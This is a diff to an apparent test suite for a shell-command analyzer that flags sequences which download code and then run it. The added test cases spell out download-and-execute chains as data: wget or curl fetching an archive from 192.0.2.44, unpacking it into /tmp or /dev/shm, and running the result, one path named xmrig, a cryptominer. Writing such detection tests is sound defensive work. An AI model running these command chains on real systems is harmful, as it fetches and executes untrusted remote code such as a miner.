@@ -215,11 +215,34 @@ describe('download and run', () => {
     ],
     ['moved', [command(['curl', '-o', 'a', 'http://x.invalid/']), command(['mv', 'a', 'b']), command(['./b'])]],
     [
+      'an archive',
+      [
+        command(['wget', 'http://192.0.2.44/x.tgz'], { cwd: '/tmp' }),
+        command(['tar', 'xzf', 'x.tgz'], { cwd: '/tmp' }),
+        command(['./x/run'], { cwd: '/tmp' }),
+      ],
+    ],
+    [
+      'an archive through a pipe',
+      [
+        ...piped(command(['curl', '-s', 'http://192.0.2.44/x.tgz']), command(['tar', '-xz', '-C', '/dev/shm'])),
+        command(['/dev/shm/xmrig/run']),
+      ],
+    ],
+    [
       'into a file by redirection',
       [command(['curl', '-s', 'http://x.invalid'], { redirects: [to('>', '/tmp/y')] }), command(['bash', '/tmp/y'])],
     ],
   ])('%s', (_name, peers) => {
     expect(allEffects(...peers).some((effect) => effect.kind === 'run' && effect.from === 'fetched')).toBe(true);
+  });
+  test('a program beside an archive is not from it', () => {
+    const found = effects(
+      command(['wget', '-O', '/tmp/x.tgz', 'http://192.0.2.44/x.tgz']),
+      command(['tar', '-xzf', '/tmp/x.tgz', '-C', '/tmp/x']),
+      command(['/opt/app/run']),
+    );
+    expect(found).toMatchObject([{ kind: 'run', from: 'file' }]);
   });
   test('curl under another name', () => {
     const found = effects(command(['cp', '/usr/bin/curl', '/tmp/c']), command(['/tmp/c', '-s', 'http://192.0.2.44/x']));
